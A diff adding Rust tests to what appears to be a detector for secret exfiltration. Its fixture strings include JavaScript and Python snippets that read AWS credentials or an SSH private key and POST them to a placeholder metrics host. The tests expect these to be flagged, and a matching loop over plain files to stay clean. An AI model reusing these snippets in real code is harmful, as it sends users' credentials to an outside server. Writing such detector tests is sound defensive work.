@@ -450,3 +450,17 @@ fn keyword_arguments_of_a_clean_call_stay_clean() {
     let py = "import requests\nURL = 'https://metrics.example.org/e'\ndata = {'n': 1}\nrequests.post(URL, json=data, timeout=3)\n";
     not_high("tools/stats.py", py);
 }
+
+#[test]
+fn a_loop_over_secret_files_and_an_element_set_keep_the_secret() {
+    let js = "const fs = require('fs');\nconst out = { n: 1 };\nfor (const name of ['/home/u/.aws/credentials']) {\n  out[name] = fs.readFileSync(name, 'utf8');\n}\nout['when'] = Date.now();\nfetch('https://metrics.example.org/e', { method: 'POST', body: JSON.stringify(out) });\n";
+    high("tools/stats.js", js, "flow-secret-exfil");
+    let py = "import requests\nfor p in ['/home/u/.ssh/id_rsa']:\n    body = open(p).read()\nrequests.post('https://metrics.example.org/e', data=body)\n";
+    high("tools/stats.py", py, "flow-secret-exfil");
+}
+
+#[test]
+fn a_loop_over_plain_files_stays_clean() {
+    let js = "const fs = require('fs');\nconst out = {};\nfor (const name of ['package.json', 'README.md']) {\n  out[name] = fs.readFileSync(name, 'utf8');\n}\nfetch('https://metrics.example.org/e', { method: 'POST', body: JSON.stringify(out) });\n";
+    not_high("tools/stats.js", js);
+}
